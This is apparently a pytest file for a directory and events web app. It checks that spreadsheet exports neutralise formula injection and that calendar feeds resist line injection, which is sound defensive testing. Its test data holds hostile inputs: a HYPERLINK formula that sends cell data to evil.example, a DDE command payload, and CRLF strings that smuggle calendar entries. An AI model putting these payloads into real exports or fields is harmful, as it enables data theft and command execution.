"""What operators open is inert: no spreadsheet formula from anybody's text, in any export;
no line of anybody's text can add a line to a calendar feed."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import icalendar
from openpyxl import load_workbook

from tests.conftest import login
from tests.factories import make_organisation
from yeongilman.events.services import event_create

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_directory_exports_neutralise_formulas(client, operator):
    make_organisation(operator, name_en="=1+2 Robotics", description_en="@SUM(A1:A9)")
    text = b"".join(client.get("/en/directory/export/?format=csv").streaming_content)
    row = next(r for r in csv.reader(io.StringIO(text.decode("utf-8-sig"))) if "Robotics" in str(r))
    assert "'=1+2 Robotics" in row and "'@SUM(A1:A9)" in row
    cells = _cells(client.get("/en/directory/export/?format=xlsx").content)
    assert any(c.value == "=1+2 Robotics" and c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for c in cells)


def test_chart_csv_neutralises_formulas_but_keeps_numbers(client, operator):
    make_organisation(operator, name_en="Somewhere Co", city="=cmd|' /C calc'!A0", kind="startup")
    login(client, operator)
    response = client.get("/en/insights/charts/organisations_by_industry.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert not any(line.startswith(("=", "+", "@")) for line in text.splitlines())


def test_briefing_workbook_has_no_formulas(operator):
    from yeongilman.insights.reports import briefing, briefing_xlsx

    make_organisation(operator, name_en="=2*3 Battery", kind="startup")
    content = briefing_xlsx(briefing(2024, 2026, "en"))
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert not any(c.data_type == "f" for c in row)


def test_newlines_in_event_texts_cannot_add_lines_to_the_feed(client, operator):
    seoul = ZoneInfo("Asia/Seoul")
    hostile = "Forum\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\r\nEND:VEVENT"
    event = event_create(
        actor=operator,
        kind="forum",
        title_en=hostile,
        description_en="line one\nline two; with, commas",
        venue="Hall A\r\nX-INJECTED:1",
        city="Pohang",
        time_zone="Asia/Seoul",
        starts_at=datetime(2027, 3, 1, 9, tzinfo=seoul),
        ends_at=datetime(2027, 3, 1, 18, tzinfo=seoul),
        is_published=True,
    )
    response = client.get(f"/en/events/{event.slug}/calendar.ics")
    calendar = icalendar.Calendar.from_ical(response.content)
    events = list(calendar.walk("VEVENT"))
    assert len(events) == 1
    assert str(events[0]["summary"]) == hostile.replace("\r\n", "\n")
    assert "X-INJECTED" not in events[0]
    assert str(events[0]["location"]) == "Hall A\nX-INJECTED:1, Pohang"
    assert b"\r\nX-INJECTED" not in response.content
